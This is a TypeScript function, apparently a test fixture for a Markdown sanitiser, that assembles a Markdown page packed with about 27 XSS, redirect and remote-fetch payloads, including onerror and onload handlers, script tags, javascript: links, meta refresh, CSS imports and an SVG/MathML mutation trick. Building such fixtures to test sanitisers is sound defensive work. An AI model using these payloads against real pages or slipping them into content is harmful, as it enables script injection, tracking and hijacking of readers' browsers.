/** Markdown that asks a server for something, runs something or takes the page elsewhere in every way we know of. */
export function hostileMarkdown(address: string): string {
  const run = `fetch('${address}/run')`;
  const attacks = [
    `![picture](${address}/md.png)`,
    `![picture][ref]\n\n[ref]: ${address}/ref.png`,
    `<img src="${address}/img.png" srcset="${address}/2x.png 2x">`,
    `<img src="x" onerror="${run}">`,
    `<picture><source srcset="${address}/source.png"><img src="${address}/in-picture.png"></picture>`,
    `<script>${run}</script>`,
    `<script src="${address}/script.js"></script>`,
    `<style>@import url(${address}/import.css); body { background: url(${address}/style.png) }</style>`,
    `<link rel="stylesheet" href="${address}/link.css"><link rel="prefetch" href="${address}/prefetch">`,
    `<link rel="preconnect" href="${address}"><link rel="dns-prefetch" href="${address}">`,
    `<meta http-equiv="refresh" content="0;url=${address}/refresh">`,
    `<base href="${address}/">`,
    `<iframe src="${address}/frame" srcdoc="<img src=${address}/srcdoc>"></iframe>`,
    `<object data="${address}/object"></object><embed src="${address}/embed">`,
    `<video src="${address}/video" poster="${address}/poster" autoplay></video><audio src="${address}/audio" autoplay></audio>`,
    `<video><track src="${address}/track" default></video>`,
    `<div style="background-image: url(${address}/inline.png)">styled</div>`,
    `<table background="${address}/table.png"><tr><td background="${address}/cell.png">cell</td></tr></table>`,
    `<form action="${address}/form"><input type="image" src="${address}/input.png"><button formaction="${address}/b">go</button></form>`,
    `<svg><image href="${address}/svg.png"/><use href="${address}/use.svg#a"/><script>${run}</script></svg>`,
    `<svg onload="${run}"><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`,
    `<math><mtext><table><mglyph><style><img src="${address}/mutation.png" onerror="${run}"></style></mglyph></table></mtext></math>`,
    `<details open ontoggle="${run}">details</details>`,
    `<a href="javascript:${run}">script link</a> [script link](javascript:${run})`,
    `<a id="body" name="desk" href="${address}/link" ping="${address}/ping">a link</a>`,
    `<template><img src="${address}/template.png"></template><noscript><img src="${address}/noscript.png"></noscript>`,
    `<input autofocus onfocus="${run}"><body onload="${run}">`,
  ];
  return `# Hostile\n\nBefore.\n\n${attacks.join('\n\n')}\n\nAfter all of it.\n`;
}
